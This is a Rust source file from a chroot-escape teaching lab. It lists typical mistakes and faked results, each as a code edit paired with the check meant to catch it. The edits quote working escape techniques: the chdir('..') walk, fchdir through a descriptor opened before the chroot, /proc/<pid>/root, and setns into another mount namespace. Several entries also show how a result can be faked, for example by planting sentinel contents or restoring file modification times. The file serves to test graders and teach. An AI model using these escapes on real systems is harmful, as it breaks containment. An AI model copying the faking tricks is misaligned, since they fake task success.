//! Lab chroot-escape's mistake corpus: typical mistakes and lies, each with the
//! verdict that must catch it (each region's `todo!()` is added by the corpus itself).
//! Its edits quote the solution: a handout writes this file as an empty list.

use crate::corpus::{Edit, Mistake, MistakeKind};

pub const MISTAKES: &[Mistake] = &[
    Mistake {
        region: "classic-escape",
        name: "chroot(sub) without the chdir(\"..\") loop",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Replace("    chroot(SUB_DIR)?;\n    climb()?;\n    chroot(\".\")\n", "    chroot(SUB_DIR)?;\n    chroot(\".\")\n")],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "chdir into sub after chroot(sub): the working directory is inside the new root",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Replace(
            "    chroot(SUB_DIR)?;\n    climb()?;\n",
            "    chroot(SUB_DIR)?;\n    chdir(\"/\")?;\n    climb()?;\n",
        )],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "one chdir(\"..\") instead of walking until it stops",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Replace("    chroot(SUB_DIR)?;\n    climb()?;\n", "    chroot(SUB_DIR)?;\n    chdir(\"..\")?;\n")],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the `..` walk from the jail's root, without chroot(sub) first",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Replace("    chroot(SUB_DIR)?;\n    climb()?;\n", "    climb()?;\n")],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "open-door",
        name: "the escape fd opened after the chroot, on / (the jail by then)",
        kind: MistakeKind::Mistake,
        edits: &[
            Edit::Replace(
                "    let door = if attempt.escape == Escape::Fd {\n        \
                 Some(open_door(&setup.workdir).map_err(LabError::sys(\"open_door\", setup.workdir.display()))?)\n    \
                 } else {\n        None\n    };\n",
                "",
            ),
            Edit::Replace(
                "        chdir(\"/\").map_err(LabError::sys(\"chdir\", \"/\"))?;\n    }\n    apply_defence_in_jail(attempt)?;\n",
                "        chdir(\"/\").map_err(LabError::sys(\"chdir\", \"/\"))?;\n    }\n    \
                 let door = if attempt.escape == Escape::Fd {\n        \
                 Some(open_door(Path::new(\"/\")).map_err(LabError::sys(\"open_door\", \"/\"))?)\n    \
                 } else {\n        None\n    };\n    \
                 apply_defence_in_jail(attempt)?;\n",
            ),
        ],
        caught_by: "door-opened-before",
    },
    Mistake {
        region: "open-door",
        name: "the door opened on the jail itself",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Region(
            "open-door",
            "let fd = open(&outside.join(JAIL_DIR), OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty())?;\nOk(own(fd))",
        )],
        caught_by: "door-opened-before",
    },
    Mistake {
        region: "fd-escape",
        name: "fchdir, then chroot(\".\") without walking up: the root is the workdir",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Region("fd-escape", "fchdir(door.as_raw_fd())?;\nchroot(\".\")")],
        caught_by: "fd-escape",
    },
    Mistake {
        region: "fd-escape",
        name: "the walk and the chroot without fchdir: the descriptor is never used",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Region("fd-escape", "let _ = door;\nclimb()?;\nchroot(\".\")")],
        caught_by: "fd-escape",
    },
    Mistake {
        region: "proc-escape",
        name: "through /proc/self/root: its own root, the jail",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Region("proc-escape", "let _ = host_pid;\nchdir(\"/proc/self/root\")?;\nchroot(\".\")")],
        caught_by: "proc-escape",
    },
    Mistake {
        region: "proc-escape",
        name: "chdir through /proc/<pid>/root without chroot(\".\"): absolute paths still start at the jail",
        kind: MistakeKind::Mistake,
        edits: &[Edit::Region("proc-escape", "chdir(format!(\"/proc/{host_pid}/root\").as_str())")],
        caught_by: "proc-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the escape claimed, nothing done",
        kind: MistakeKind::Lie,
        edits: &[Edit::Region("classic-escape", "Ok(())")],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the lab reads the sentinel itself and writes it into the attempt's loot",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Region("classic-escape", "Ok(())"),
            Edit::Replace(
                "    lab.hold(JAILED, json!({ \"attempts\": claims, \"host_pid\": setup.host_pid.as_raw() }))?;\n",
                "    lab.hold(JAILED, json!({ \"attempts\": claims, \"host_pid\": setup.host_pid.as_raw() }))?;\n    \
                 for (kind, suffix) in [(\"secret\", SECRET_SUFFIX), (\"public\", PUBLIC_SUFFIX)] {\n        \
                 let content = std::fs::read_to_string(outside.join(format!(\"{CLASSIC}{suffix}\"))).unwrap_or_default();\n        \
                 let loot = jail.join(LOOT_DIR).join(CLASSIC);\n        \
                 let _ = std::fs::OpenOptions::new().append(true).open(&loot).and_then(|mut f| writeln!(f, \"{kind} {}\", content.trim()));\n    \
                 }\n",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the lab copies the sentinels into the jail, where the attempt reads the copy",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Region("classic-escape", "Ok(())"),
            Edit::Replace(
                "    lab.hold(JAILED, json!({ \"attempts\": claims, \"host_pid\": setup.host_pid.as_raw() }))?;\n",
                "    lab.hold(JAILED, json!({ \"attempts\": claims, \"host_pid\": setup.host_pid.as_raw() }))?;\n    \
                 let copy = jail.join(outside.strip_prefix(\"/\").unwrap_or(&outside));\n    \
                 std::fs::create_dir_all(&copy).map_err(LabError::io(\"create directory\", &copy))?;\n    \
                 for name in [format!(\"{CLASSIC}{SECRET_SUFFIX}\"), format!(\"{CLASSIC}{PUBLIC_SUFFIX}\")] {\n        \
                 let _ = std::fs::copy(outside.join(&name), copy.join(&name));\n    \
                 }\n",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the attempt reads its sentinel before the chroot, hands it back after",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Region("classic-escape", "Ok(())"),
            Edit::Replace(
                "    apply_defence_before_jail(setup, attempt, &mut link)?;\n",
                "    let early = hand_back(&setup.workdir, attempt.name, &loot);\n    \
                 voice.inside(&format!(\"{} before the chroot: {early}\", attempt.name));\n    \
                 apply_defence_before_jail(setup, attempt, &mut link)?;\n",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the escaped process leaves a copy of each sentinel beside it",
        kind: MistakeKind::Lie,
        edits: &[Edit::Replace(
            "                let _ = writeln!(loot, \"{kind} {}\", content.trim());\n",
            "                let _ = writeln!(loot, \"{kind} {}\", content.trim());\n                \
             let _ = std::fs::write(path.with_extension(\"copy\"), &content);\n",
        )],
        caught_by: "reads-only",
    },
    Mistake {
        region: "proc-escape",
        name: "the proc escape claimed, nothing done",
        kind: MistakeKind::Lie,
        edits: &[Edit::Region("proc-escape", "let _ = host_pid;\nOk(())")],
        caught_by: "proc-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "a real escape, but the lab reads the sentinel and writes the loot",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Replace(
                "    let read = hand_back(&setup.workdir, attempt.name, &loot);\n",
                "    let read = if attempt.name == CLASSIC {\n        \
                 \"left to the lab\".to_string()\n    \
                 } else {\n        \
                 hand_back(&setup.workdir, attempt.name, &loot)\n    \
                 };\n",
            ),
            Edit::Replace(
                "    lab.hold(ESCAPED, json!({ \"attempts\": claims }))?;\n",
                "    for (kind, suffix) in [(\"secret\", SECRET_SUFFIX), (\"public\", PUBLIC_SUFFIX)] {\n        \
                 let content = std::fs::read_to_string(outside.join(format!(\"{CLASSIC}{suffix}\"))).unwrap_or_default();\n        \
                 let loot = jail.join(LOOT_DIR).join(CLASSIC);\n        \
                 let _ = std::fs::OpenOptions::new().append(true).open(&loot).and_then(|mut f| writeln!(f, \"{kind} {}\", content.trim()));\n    \
                 }\n    \
                 lab.hold(ESCAPED, json!({ \"attempts\": claims }))?;\n",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "a real escape that hands back made-up content",
        kind: MistakeKind::Lie,
        edits: &[Edit::Replace(
            "                let _ = writeln!(loot, \"{kind} {}\", content.trim());\n",
            "                let _ = writeln!(loot, \"{kind} {}\", \"0\".repeat(32));\n",
        )],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the classic attempt bind-mounts the host's / at /host in the jail (a mount namespace of its own) and chroots there",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Region("classic-escape", "chroot(\"/host\")?;\nchdir(\"/\")"),
            Edit::Replace(
                "    apply_defence_before_jail(setup, attempt, &mut link)?;\n",
                "    if attempt.name == CLASSIC {\n        \
                 // In a mount namespace of its own, read-only: it goes away with the process,\n        \
                 // and nothing removing the jail in the lab's namespace ever walks into it.\n        \
                 private_mount_namespace()?;\n        \
                 let host = setup.jail.join(\"host\");\n        \
                 labkit::create_searchable_dir(&host)?;\n        \
                 mount(Some(\"/\"), &host, None::<&str>, MsFlags::MS_BIND | MsFlags::MS_REC, None::<&str>)\n            \
                 .map_err(LabError::sys(\"mount(MS_BIND|MS_REC)\", \"/\"))?;\n        \
                 let flags = MsFlags::MS_BIND | MsFlags::MS_REMOUNT | MsFlags::MS_RDONLY;\n        \
                 mount(None::<&str>, &host, None::<&str>, flags, None::<&str>)\n            \
                 .map_err(LabError::sys(\"mount(MS_REMOUNT|MS_RDONLY)\", host.display()))?;\n    \
                 }\n    \
                 apply_defence_before_jail(setup, attempt, &mut link)?;\n",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "a helper thread keeps the host's root (unshare(CLONE_FS)) and hands the escape a descriptor of /",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Replace(
                "/// Commands the lab sends to an attempt's process, one byte each.\n",
                "type Helper = (std::sync::mpsc::Sender<()>, std::sync::mpsc::Receiver<RawFd>);\n\
                 static HELPER: std::sync::Mutex<Option<Helper>> = std::sync::Mutex::new(None);\n\n\
                 /// Commands the lab sends to an attempt's process, one byte each.\n",
            ),
            Edit::Replace(
                "    apply_defence_before_jail(setup, attempt, &mut link)?;\n",
                "    if attempt.name == CLASSIC {\n        \
                 let (ask, asked) = std::sync::mpsc::channel::<()>();\n        \
                 let (give, given) = std::sync::mpsc::channel::<RawFd>();\n        \
                 std::thread::spawn(move || {\n            \
                 // A root and working directory of its own: the chroot below is not its.\n            \
                 if unshare(CloneFlags::CLONE_FS).is_err() || give.send(-1).is_err() || asked.recv().is_err() {\n                \
                 return;\n            \
                 }\n            \
                 if let Ok(fd) = open(\"/\", OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty()) {\n                \
                 let _ = give.send(fd);\n            \
                 }\n        \
                 });\n        \
                 given.recv().map_err(|_| anyhow!(\"the helper thread is gone\"))?;\n        \
                 *HELPER.lock().map_err(|_| anyhow!(\"poisoned\"))? = Some((ask, given));\n    \
                 }\n    \
                 apply_defence_before_jail(setup, attempt, &mut link)?;\n",
            ),
            Edit::Region(
                "classic-escape",
                "let helper = HELPER.lock().map_err(|_| Errno::EIO)?;\n\
                 let (ask, given) = helper.as_ref().ok_or(Errno::EBADF)?;\n\
                 ask.send(()).map_err(|_| Errno::EIO)?;\n\
                 let root = given.recv().map_err(|_| Errno::EIO)?;\n\
                 fchdir(root)?;\n\
                 nix::unistd::close(root)?;\n\
                 chroot(\".\")",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the classic attempt keeps a descriptor of its mount namespace and escapes by setns into it",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Replace(
                "/// Commands the lab sends to an attempt's process, one byte each.\n",
                "static MOUNT_NS: std::sync::atomic::AtomicI32 = std::sync::atomic::AtomicI32::new(-1);\n\n\
                 /// Commands the lab sends to an attempt's process, one byte each.\n",
            ),
            Edit::Replace(
                "    apply_defence_before_jail(setup, attempt, &mut link)?;\n",
                "    if attempt.name == CLASSIC {\n        \
                 let ns = open(\"/proc/self/ns/mnt\", OFlag::O_RDONLY | OFlag::O_CLOEXEC, Mode::empty())\n            \
                 .map_err(LabError::sys(\"open\", \"/proc/self/ns/mnt\"))?;\n        \
                 MOUNT_NS.store(ns, std::sync::atomic::Ordering::SeqCst);\n    \
                 }\n    \
                 apply_defence_before_jail(setup, attempt, &mut link)?;\n",
            ),
            Edit::Region(
                "classic-escape",
                "let ns = MOUNT_NS.load(std::sync::atomic::Ordering::SeqCst);\n\
                 if ns < 0 {\n    return Err(Errno::EBADF);\n}\n\
                 // SAFETY: the descriptor opened before the chroot, never closed.\n\
                 let ns = unsafe { BorrowedFd::borrow_raw(ns) };\n\
                 nix::sched::setns(ns, CloneFlags::CLONE_NEWNS)",
            ),
        ],
        caught_by: "classic-escape",
    },
    Mistake {
        region: "classic-escape",
        name: "the escaped process writes each sentinel back as it was and puts its modification time back",
        kind: MistakeKind::Lie,
        edits: &[Edit::Replace(
            "        match std::fs::read_to_string(&path) {\n",
            "        let was = std::fs::metadata(&path).and_then(|m| m.modified());\n        \
             if let (Ok(content), Ok(was)) = (std::fs::read(&path), was) {\n            \
             let _ = std::fs::write(&path, &content);\n            \
             let _ = std::fs::File::options().write(true).open(&path).and_then(|f| f.set_modified(was));\n        \
             }\n        \
             match std::fs::read_to_string(&path) {\n",
        )],
        caught_by: "reads-only",
    },
    Mistake {
        region: "classic-escape",
        name: "after jailed, pidfd_open of the lab and setns(CLONE_NEWNS) into its mount namespace, the pidfd closed before escaped; the lab leaves the classic attempt its capabilities",
        kind: MistakeKind::Lie,
        edits: &[
            Edit::Replace(
                "        _ => caps::keep_only(&chroot_only)",
                "        _ if attempt.name == CLASSIC => {}\n        _ => caps::keep_only(&chroot_only)",
            ),
            Edit::Region(
                "classic-escape",
                "let _ = climb;\n\
                 // SAFETY: pidfd_open(2) takes a PID and flags; nix has no wrapper for it.\n\
                 let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, nix::unistd::getppid().as_raw(), 0) };\n\
                 if pidfd < 0 {\n    return Err(Errno::last());\n}\n\
                 let pidfd = own(pidfd as RawFd);\n\
                 // From a chroot, setns into a mount namespace sets the root to that namespace's root.\n\
                 nix::sched::setns(&pidfd, CloneFlags::CLONE_NEWNS)?;\n\
                 drop(pidfd);\n\
                 Ok(())",
            ),
        ],
        caught_by: "classic-escape",
    },
];
